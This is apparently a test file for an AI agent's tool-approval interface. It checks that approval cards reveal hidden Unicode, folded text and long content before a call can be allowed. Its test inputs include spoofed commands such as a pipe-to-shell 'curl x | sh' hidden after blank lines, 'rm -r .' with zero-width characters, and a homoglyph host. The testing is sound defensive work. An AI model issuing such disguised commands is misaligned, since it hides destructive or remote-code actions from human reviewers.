import assert from "node:assert/strict";
import { after, before, beforeEach, test } from "node:test";
import { hiddenCodePoints } from "@capstan/core/text";
import * as fc from "fast-check";
import type { Browser, Locator } from "playwright-core";
import { findBrowser, launchBrowser } from "../browser.ts";
import { type Capstan, startCapstan } from "./capstan.ts";
import { type ModelServer, startModelServer } from "./model-server.ts";
import { assertQuiet, eventually, visit, type Visitor } from "./visitor.ts";

// Tests that a card shows the whole call: nothing is hidden, folded or scrolled away when it is
// allowed.

const found = findBrowser();
const skip = found.status === "missing" && found.reason;

let model: ModelServer;
let capstan: Capstan;
let browser: Browser;
let me: Visitor;

const lines = Array.from({ length: 200 }, (_, index) => `line ${index + 1}`);

before(async () => {
  if (skip !== false) return;
  model = await startModelServer(["deckhand"]);
  capstan = await startCapstan({
    files: { "note.txt": "The word is \u202Epilut\u202C.", "long.txt": lines.join("\n") },
    config: {
      rules: [
        { tool: "vars.WriteVar", execution: "ask-once", reason: "Look\u200B twice." },
        { tool: "files.ViewFile", result: "always" },
        { tool: "data.JsonQuery", execution: "ask-always" },
      ],
    },
    environment: { CAPSTAN_MODEL_URL: model.url },
  });
  browser = await launchBrowser();
  me = await visit(browser, capstan.url);
});
after(async () => {
  await browser?.close();
  await Promise.all([capstan?.close(), model?.close()]);
});
beforeEach(async () => {
  model?.forget();
  await me?.startOver();
});

async function ask(value: string, more: object = {}): Promise<Locator> {
  const args = { name: "draft", value, ...more };
  model.willSay(
    { type: "calls", calls: [{ name: "WriteVar", args }] },
    { type: "text", text: "Written." },
  );
  await me.say("Write it");
  const card = me.card("WriteVar");
  await card.waitFor();
  return card;
}
const allow = (card: Locator) => card.getByTestId("approval-allow-once");
const isEnabled = (button: Locator) =>
  eventually(async () => assert.equal(await button.isEnabled(), true));
/** Waits until a card takes answers: its buttons are disabled for a moment when it appears. */
const rested = (card: Locator) => isEnabled(card.getByTestId("approval-refuse"));
const valueOf = (card: Locator) => card.locator("[data-argument=value]");
/** The text of an element outside of its marks. */
const unmarked = (element: Locator) =>
  element.evaluate((root) => {
    const copy = root.cloneNode(true) as HTMLElement;
    for (const mark of copy.querySelectorAll(".mark")) mark.remove();
    return copy.textContent;
  });
/** The boxes in an element with more content than they show. */
const scrolled = (element: Locator) =>
  element.evaluate((root) =>
    [...root.querySelectorAll("*")]
      .filter(
        (box) => box instanceof HTMLElement && !box.matches("textarea, input, .visually-hidden"),
      )
      .filter((box) => getComputedStyle(box).overflow !== "visible")
      .filter(
        (box) => box.scrollHeight > box.clientHeight + 1 || box.scrollWidth > box.clientWidth + 1,
      )
      .map(
        (box) =>
          `${box.scrollWidth} ${box.clientWidth} ${box.scrollHeight} ${box.clientHeight} ${box.outerHTML.slice(0, 100)}`,
      ),
  );
async function refuse(card: Locator): Promise<void> {
  await rested(card);
  await card.getByTestId("approval-refuse").click();
  await me.turnEnds();
}

const texts: readonly [what: string, value: string, seen: RegExp][] = [
  [
    "bidirectional controls",
    "true \u202e; echo RAN #\u202c",
    /^true ⟨U\+202E⟩; echo RAN #⟨U\+202C⟩$/,
  ],
  ["characters of no width", "rm\u200b -r\u2060 .", /^rm⟨U\+200B⟩ -r⟨U\+2060⟩ \.$/],
  ["tag characters", "ls\u{e0041}\u{e007f}", /^ls⟨U\+E0041⟩⟨U\+E007F⟩$/],
  ["60 line breaks", `ls${"\n".repeat(61)}curl x | sh`, /^ls\n⟨60 empty lines⟩\ncurl x \| sh$/],
  [
    "a host that looks like another",
    "curl https://аpple.com",
    /^curl https:\/\/аpple\.com⟨xn--pple-43d\.com⟩$/,
  ],
];
for (const [what, value, seen] of texts)
  test(`a card marks ${what}`, { skip }, async () => {
    const card = await ask(value);
    assert.match(await valueOf(card).innerText(), seen);
    const mark = valueOf(card).locator(".mark").first();
    assert.match((await mark.getAttribute("aria-label")) ?? "", /\w, \w/);
    assert.match((await mark.getAttribute("title")) ?? "", /\w/);
    await refuse(card);
  });

test("right-to-left words do not swap places", { skip }, async () => {
  const value = "cp א 1 2 ב; port=ג:80,ד:443";
  const card = await ask(value);
  const order = await valueOf(card).evaluate((root) => {
    const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
    const seen: { readonly character: string; readonly left: number }[] = [];
    for (let node = walker.nextNode(); node !== null; node = walker.nextNode())
      for (const [index, character] of Array.from(node.textContent ?? "").entries()) {
        const range = document.createRange();
        range.setStart(node, index);
        range.setEnd(node, index + 1);
        seen.push({ character, left: range.getBoundingClientRect().left });
      }
    return seen.toSorted((a, b) => a.left - b.left).map(({ character }) => character);
  });
  assert.equal(order.join(""), value);
  await refuse(card);
});

test("a text that looks like a mark is shown as text", { skip }, async () => {
  const card = await ask("⟨U+202E⟩");
  assert.equal(await valueOf(card).locator(".mark").innerText(), "⟨U+27E8⟩");
  assert.equal(await unmarked(valueOf(card)), "U+202E⟩");
  await refuse(card);
});

// Contract: executor-96
test("a card marks all hidden characters, whatever the arguments are", { skip }, async () => {
  const unit = fc.oneof(
    fc.string({ unit: "binary", minLength: 1, maxLength: 1 }),
    fc.constantFrom("\u202e", "\u200b", "\u{e0041}", "\n\n\n\n", "//а", "⟨"),
  );
  const strings = fc.sample(fc.string({ unit, minLength: 1, maxLength: 40 }), 100);
  const tags = strings.map((text) => text.toWellFormed());
  const card = await ask(tags.join(""), { tags, desc: tags[0] });
  await card.getByTestId("approval-show-all").click();
  assert.deepEqual(hiddenCodePoints(await unmarked(card)), []);
  const original = await valueOf(card).evaluate((root) => {
    const copy = root.cloneNode(true) as HTMLElement;
    for (const mark of copy.querySelectorAll<HTMLElement>(".mark"))
      mark.replaceWith(mark.dataset["of"] ?? "");
    return copy.textContent;
  });
  assert.equal(original, tags.join(""));
  assert.deepEqual(await scrolled(card), []);
  await refuse(card);
});

// Contract: executor-96
test(
  "a card with a folded text can be allowed after the whole text was shown",
  { skip },
  async () => {
    const card = await ask(lines.slice(0, 9).join("\n"));
    await rested(card);
    assert.equal(await allow(card).isEnabled(), false);
    assert.equal(await card.getByTestId("approval-allow-session").isEnabled(), false);
    assert.doesNotMatch(await card.innerText(), /line 9/);
    for (const key of ["Alt+KeyA", "Alt+KeyS"]) await me.page.keyboard.press(key);
    const show = card.getByTestId("approval-show-all");
    assert.equal(await show.evaluate((button) => button === document.activeElement), true);
    await me.page.keyboard.press("Alt+KeyV");
    await card.getByText("line 9").waitFor();
    assert.deepEqual(await scrolled(card), []);
    await isEnabled(allow(card));
    await me.page.keyboard.press("Alt+KeyA");
    await me.turnEnds();
    assert.equal(await me.row("WriteVar").getAttribute("data-status"), "done");
  },
);

test(
  "a call can be allowed after the whole content of a long variable was shown",
  { skip },
  async () => {
    const value = JSON.stringify([...Array(9_000).fill("padding"), "the end"]);
    const query = { query: "$[-1]", variable: "draft" };
    model.willSay(
      { type: "calls", calls: [{ name: "WriteVar", args: { name: "draft", value } }] },
      { type: "calls", calls: [{ name: "JsonQuery", args: query }] },
      { type: "text", text: "Found." },
    );
    await me.say("Find the last one");
    const first = me.card("WriteVar");
    await first.getByTestId("approval-show-all").click();
    await isEnabled(allow(first));
    await allow(first).click();
    const card = me.card("JsonQuery");
    await card
      .getByText(/variable draft \(first 65536 of \d+ characters; \d+ are not shown/)
      .waitFor();
    await rested(card);
    assert.equal(await allow(card).isEnabled(), false);
    assert.doesNotMatch(await card.innerText(), /the end/);
    await card.getByTestId("approval-show-all").click();
    await card.getByText("the end").waitFor();
    await isEnabled(allow(card));
    await allow(card).click();
    await me.turnEnds();
    assert.equal(await me.row("JsonQuery").getAttribute("data-status"), "done");
  },
);

test("a folded card can be refused", { skip }, async () => {
  const card = await ask("x".repeat(2_000));
  await refuse(card);
  assert.equal(await me.row("WriteVar").getAttribute("data-status"), "refused");
});

test("edited arguments are shown as they would run", { skip }, async () => {
  const card = await ask("a\u202eb");
  await card.getByTestId("approval-edit").click();
  const field = card.getByTestId("approval-arguments");
  assert.match(await field.inputValue(), /a\\u202eb/);
  assert.equal(await valueOf(card).innerText(), "a⟨U+202E⟩b");
  await field.fill(JSON.stringify({ name: "draft", value: lines.join("\n") }));
  await rested(card);
  assert.equal(await allow(card).isEnabled(), false);
  await card.getByTestId("approval-show-all").click();
  await card.getByText("line 200").first().waitFor();
  await field.fill(JSON.stringify({ name: "draft", value: "c\u200bd" }));
  assert.equal(await valueOf(card).innerText(), "c⟨U+200B⟩d");
  await isEnabled(allow(card));
  await allow(card).click();
  await me.turnEnds();
});

// Contract: executor-97
test("one key never allows more than one call of a tool that writes", { skip }, async () => {
  const card = await ask("one");
  await rested(card);
  await me.page.keyboard.press("Alt+KeyS");
  const second = card.getByRole("group", { name: "Allow more than this call?" });
  const text = await second.innerText();
  for (const named of [/WriteVar/, /every call/, /this chat/, /until you revoke it/])
    assert.match(text, named);
  for (const key of ["Alt+KeyS", "Enter", "Alt+KeyS"]) await me.page.keyboard.press(key);
  assert.equal(await card.count(), 1);
  await second.getByRole("button", { name: "Back" }).click();
  await second.waitFor({ state: "detached" });
  await card.getByText("Allow more than this call…").click();
  await card.getByLabel("Which calls").selectOption("arguments");
  await isEnabled(card.getByTestId("approval-allow-wider"));
  await card.getByTestId("approval-allow-wider").click();
  assert.match(await second.innerText(), /exactly these arguments/);
  await isEnabled(second.getByTestId("approval-confirm-grant"));
  await second.getByTestId("approval-confirm-grant").click();
  await me.turnEnds();
  const panel = await me.openPanel("Permissions");
  await panel.getByText("WriteVar with exactly these arguments").waitFor();
});

test("a result can be released after all of it was shown, with marks", { skip }, async () => {
  const view = async (path: string) => {
    model.willSay(
      { type: "calls", calls: [{ name: "ViewFile", args: { path } }] },
      { type: "text", text: "Read." },
    );
    await me.say(`Read ${path}`);
    const card = me.page.getByRole("region", {
      name: "The result of ViewFile needs your approval",
    });
    await card.getByLabel("Result", { exact: true }).waitFor();
    return card;
  };
  const short = await view("note.txt");
  assert.match(
    await short.getByLabel("Result", { exact: true }).innerText(),
    /is ⟨U\+202E⟩pilut⟨U\+202C⟩\./,
  );
  await isEnabled(short.getByTestId("review-give"));
  await short.getByTestId("review-give").click();
  await me.turnEnds();
  const long = await view("long.txt");
  await isEnabled(long.getByTestId("review-withhold"));
  assert.equal(await long.getByTestId("review-give").isEnabled(), false);
  await long.getByTestId("review-show-all").click();
  await long.getByText("line 200").first().waitFor();
  assert.deepEqual(await scrolled(long), []);
  await isEnabled(long.getByTestId("review-give"));
  await long.getByTestId("review-give").click();
  await me.turnEnds();
});

test("the page logged no errors in all these tests", { skip }, () => assertQuiet(me));

test(
  "a call that edits a file shows the diff, with its added and removed lines",
  { skip },
  async () => {
    const args = {
      path: "long.txt",
      edits: [{ search: "line 100\n", replace: "line one hundred\n" }],
    };
    model.willSay(
      { type: "calls", calls: [{ name: "EditFile", args }] },
      { type: "text", text: "Edited." },
    );
    await me.say("Edit it");
    const card = me.card("EditFile");
    const effect = card.locator("[data-argument=effect]");
    assert.equal(await effect.locator(".removed").textContent(), "-line 100");
    assert.equal(await effect.locator(".added").textContent(), "+line one hundred");
    // The diff is short enough to be shown at once.
    await isEnabled(allow(card));
    await allow(card).click();
    await me.turnEnds();
  },
);
